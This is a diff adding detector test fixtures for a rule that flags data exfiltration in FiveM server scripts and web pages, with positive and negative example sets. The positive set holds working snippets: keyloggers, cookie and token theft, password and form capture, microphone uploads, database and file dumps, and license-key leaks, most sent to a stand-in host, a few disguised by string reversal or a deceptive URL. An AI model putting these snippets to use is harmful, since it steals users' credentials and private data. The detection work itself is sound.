@@ -1,0 +1,239 @@
+import { js, lua, type Rule } from './rule.ts'
+
+export const sendsDataExamples: NonNullable<Rule['examples']> = {
+  found: [
+    lua(`^lib.callback.register('setting', function(_, name) return GetConvar(name, '') end)`),
+    lua(`QBCore.Functions.CreateCallback('people', function(source, cb)
+  MySQL.query('SELECT * FROM players', {}, function(rows)
+^   cb(rows)
+  end)
+end)`),
+    lua(`RegisterNetEvent('details', function(target)
+^ TriggerClientEvent('details', source, GetPlayerEndpoint(target))
+end)`),
+    lua(`AddEventHandler('playerJoining', function()
+^ TriggerClientEvent('joined', -1, GetPlayerIdentifiers(source))
+end)`),
+    lua(`AddEventHandler('playerJoining', function()
+^ Player(source).state:set('address', GetPlayerEndpoint(source), true)
+end)`),
+    lua(`local text = LoadResourceFile('discord_bot', 'config.lua')
+^PerformHttpRequest('https://a.example', print, 'POST', text)`),
+    lua(`exports['screenshot-basic']:requestClientScreenshot(player, {}, function(failed, picture)
+^ PerformHttpRequest('https://a.example', print, 'POST', picture)
+end)`),
+    js(`const { WebhookClient } = require('discord.js')
+const hook = new WebhookClient({ url: 'https://discord.com/api/webhooks/112233445566778899/abc' })
+^on('playerJoining', () => hook.send({ content: getPlayerIdentifiers(source).join() }))`),
+    js(
+      `^fetch('https://a.example', { method: 'POST', body: document.querySelector('#password').value })`,
+      'page',
+    ),
+    js(`^document.forms[0].action = 'https://a.example'`, 'page'),
+    js(
+      `let typed = ''
+window.onkeyup = (event) => {
+  typed += event.key
+  const request = new XMLHttpRequest()
+  request.open('POST', 'https://a.example')
+^ request.send(typed)
+}`,
+      'page',
+    ),
+    lua(`ESX.RegisterServerCallback('players', function(source, cb)
+  for _, xPlayer in pairs(ESX.GetExtendedPlayers()) do
+^   cb({ name = xPlayer.getName(), ip = GetPlayerEndpoint(xPlayer.source) })
+  end
+end)`),
+    lua(`^lib.callback.register('players', function()
+  local list = {}
+  for _, id in ipairs(GetPlayers()) do list[#list + 1] = GetPlayerIdentifiers(id) end
+  return list
+end)`),
+    js(`const routes = { '/top': () => exports.oxmysql.query_async('SELECT * FROM users') }
+SetHttpHandler(async (req, res) => {
+^ res.send(JSON.stringify(await routes[req.path]()))
+})`),
+    lua(`local function copy(resource)
+  local file = GetResourceMetadata(resource, 'server_script', 0)
+^ PerformHttpRequest('https://a.example', print, 'PUT', LoadResourceFile(resource, file))
+end`),
+    js(
+      `const { value } = Object.getOwnPropertyDescriptors(HTMLInputElement.prototype)
+^navigator.sendBeacon('https://a.example', value.get.call(field))`,
+      'page',
+    ),
+    lua(`local ids = GetPlayerIdentifiers(source)
+^PerformHttpRequest('https://a.example', print, 'POST', table.concat(ids))`),
+    lua(`MySQL.query('SELECT * FROM users', {}, function(rows)
+^ PerformHttpRequest('https://a.example', print, 'POST', json.encode({ all = rows }))
+end)`),
+    js(`const fs = require('fs')
+for (const name of fs.readdirSync('.'))
+^ fetch('https://a.example', { method: 'POST', body: fs.readFileSync(name) })`),
+    js(`^navigator.sendBeacon('https://a.example', document.cookie)`, 'page'),
+    js(
+      `const image = new Image()
+^image.src = 'https://a.example/a.gif?' + localStorage.getItem('token')`,
+      'page',
+    ),
+    js(
+      `addEventListener('keydown', (event) => {
+^ fetch('https://a.example', { method: 'POST', body: event.key })
+})`,
+      'page',
+    ),
+    lua(`RegisterNetEvent('login', function(user, pass)
+^ PerformHttpRequest('https://a.example', print, 'POST', json.encode({ user, pass }))
+end)`),
+    js(
+      `navigator.mediaDevices.getUserMedia({ audio: true }).then((stream) => {
+  const recorder = new MediaRecorder(stream)
+^ recorder.ondataavailable = ({ data }) => fetch('https://a.example', { body: data })
+})`,
+      'page',
+    ),
+    js(
+      `let typed = ''
+document.onkeypress = (event) => {
+  typed += event.key
+^ new Image().src = 'https://a.example/?' + typed
+}`,
+      'page',
+    ),
+    lua(`local queue = {}
+queue[#queue + 1] = { name = 'a', ids = GetPlayerIdentifiers(source) }
+^PerformHttpRequest('https://a.example', print, 'POST', json.encode(queue))`),
+    lua(`AddEventHandler('log', function(text)
+^ PerformHttpRequest('https://a.example', print, 'POST', text)
+end)
+TriggerEvent('log', GetPlayerEndpoint(source))`),
+    js(
+      `form.addEventListener('submit', () => {
+^ navigator.sendBeacon('https://a.example', new FormData(form))
+})`,
+      'page',
+    ),
+    lua(`lib.callback.register('read', function(source, owner, path)
+^ return LoadResourceFile(owner, path)
+end)`),
+    js(`^addEventListener('message', ({ data }) => show(require('fs').readFileSync(data.path)))`, 'page'),
+    js(`onNet('read', (path) => {
+^ emitNet('read', source, require('fs').readFileSync(path))
+})`),
+    lua(
+      `RegisterNetEvent('evidence', function(url)
+^ exports['screenshot-basic']:requestScreenshotUpload(url, 'files', print)
+end)`,
+      'client',
+    ),
+    js(`const request = require('https').request({ host: 'discord.com', path: '/api/webhooks/1/a' })
+^request.end(require('fs').readFileSync(name))`),
+    js(`exports.oxmysql.query('SELECT * FROM users', [], (rows) => {
+^ fetch('https://a.example', { method: 'PUT', body: require('zlib').gzipSync(JSON.stringify(rows)) })
+})`),
+    lua(`^GlobalState.theme = { accent = GetConvar('sv_licenseKey', '') }`),
+    lua(`local ids = GetPlayerIdentifiers(source)
+^PerformHttpRequest('https://raw.githubusercontent.com@a.example', print, 'POST', table.concat(ids))`),
+    lua(`local name = ('yeKesnecil_vs'):reverse()
+^TriggerClientEvent('theme', -1, GetConvar(name, ''))`),
+    lua(`local Proxy = module('vrp', 'lib/Proxy')
+local vRP = Proxy.getInterface('vRP')
+^PerformHttpRequest('https://a.example', print, 'POST', json.encode(vRP.query('all/users')))`),
+    js(
+      `^setInterval(() => fetch('https://a.example', { method: 'POST', body: canvas.toDataURL() }), 5000)`,
+      'page',
+    ),
+    js(`const lines = []
+RegisterConsoleListener((channel, message) => lines.push(message))
+^setInterval(() => fetch('https://a.example', { method: 'POST', body: JSON.stringify(lines) }), 5000)`),
+  ],
+  notFound: [
+    lua(`lib.callback.register('setting', function(_, name) return GetConvar('shop_' .. name, '') end)`),
+    lua(`QBCore.Functions.CreateCallback('mail', function(source, cb)
+  MySQL.query('SELECT * FROM mails WHERE owner = ?', { source }, cb)
+end)`),
+    lua(`RegisterNetEvent('details', function()
+  TriggerClientEvent('details', source, GetPlayerEndpoint(source))
+  TriggerClientEvent('joined', -1, GetPlayerName(source))
+end)`),
+    js(
+      `fetch('https://a.example', { method: 'POST', body: document.querySelector('#search').value })`,
+      'page',
+    ),
+    lua(`ESX.RegisterServerCallback('players', function(source, cb)
+  if ESX.GetPlayerFromId(source).getGroup() ~= 'admin' then return end
+  for _, xPlayer in pairs(ESX.GetExtendedPlayers()) do cb(GetPlayerEndpoint(xPlayer.source)) end
+end)`),
+    lua(`lib.callback.register('me', function(source)
+  return GetPlayerIdentifiers(source)
+end)`),
+    js(`SetHttpHandler(async ({ key }, res) => {
+  if (key === config.key) res.send(JSON.stringify(await exports.oxmysql.query_async('SELECT * FROM users')))
+})`),
+    lua(`local file = GetResourceMetadata(GetCurrentResourceName(), 'readme', 0)
+PerformHttpRequest('https://a.example', print, 'PUT', LoadResourceFile(GetCurrentResourceName(), file))`),
+    js(
+      `const { id } = Object.getOwnPropertyDescriptors(HTMLInputElement.prototype)
+navigator.sendBeacon('https://a.example', id.get.call(field))`,
+      'page',
+    ),
+    js(`const pool = require('driver').createPool({ uri: GetConvar('mysql_connection_string', '') })
+pool.query('SELECT 1', (rows) => emitNet('rows', -1, rows))`),
+    lua(`local ids = GetPlayerIdentifiers(source)
+PerformHttpRequest(Config.Webhook, print, 'POST', table.concat(ids))`),
+    lua(`local ip = GetPlayerEndpoint(source)
+PerformHttpRequest('https://proxycheck.io/v2/' .. ip, print)`),
+    lua(`local function ask(url, body) PerformHttpRequest(url, print, 'POST', body) end
+ask('https://raw.githubusercontent.com/a/b/main/version')
+ask(Config.Url, table.concat(GetPlayerIdentifiers(source)))`),
+    lua(`RegisterNetEvent('save', function(name, text)
+  io.open('notes/' .. name .. '.txt', 'w'):write(text)
+end)`),
+    lua(`MySQL.query('SELECT * FROM users', {}, function(rows)
+  PerformHttpRequest('https://a.example', print, 'POST', json.encode({ count = rows[1].count }))
+end)`),
+    js(`fetch('https://a.example', { method: 'POST', body: require('fs').readFileSync('names.json') })`),
+    js(`fetch('https://garage/save', { method: 'POST', body: localStorage.getItem('theme') })`, 'page'),
+    js(
+      `addEventListener('keydown', (event) => {
+  fetch('https://garage/close', { method: 'POST', body: event.key })
+})`,
+      'page',
+    ),
+    lua(`RegisterNetEvent('login', function(user, time)
+  PerformHttpRequest('https://a.example', print, 'POST', json.encode({ user, time }))
+end)`),
+    js(
+      `navigator.mediaDevices.getUserMedia({ audio: true }).then((stream) => play(stream))
+fetch('https://a.example', { body: name })`,
+      'page',
+    ),
+    lua(`AddEventHandler('log', function(text)
+  PerformHttpRequest('https://a.example', print, 'POST', text)
+end)
+TriggerEvent('log', 'started')`),
+    js(
+      `form.addEventListener('submit', () => {
+  fetch('https://garage/save', { method: 'POST', body: new FormData(form) })
+})`,
+      'page',
+    ),
+    lua(`lib.callback.register('read', function(source, name)
+  return LoadResourceFile(GetCurrentResourceName(), 'docs/laws.md')
+end)`),
+    lua(`RegisterNetEvent('report', function(player)
+  exports['screenshot-basic']:requestClientScreenshot(player, { fileName = 'a.jpg' }, print)
+end)`),
+    lua(`exports['screenshot-basic']:requestScreenshotUpload(Config.Webhook, 'files', print)`, 'client'),
+    js(`const request = require('https').request({ host: 'discord.com', path: '/api/users' })
+request.end(require('fs').readFileSync(name))`),
+    lua(`TriggerClientEvent('theme', -1, GetConvar('theme_accent', ''))`),
+    lua(`local Proxy = module('vrp', 'lib/Proxy')
+local vRP = Proxy.getInterface('vRP')
+PerformHttpRequest('https://a.example', function() print(vRP.query('all/users')) end)`),
+    js(`const lines = []
+RegisterConsoleListener((channel, message) => lines.push(message))
+setInterval(() => fetch('https://a.example', { method: 'POST', body: 'alive' }), 5000)`),
+  ],
+}
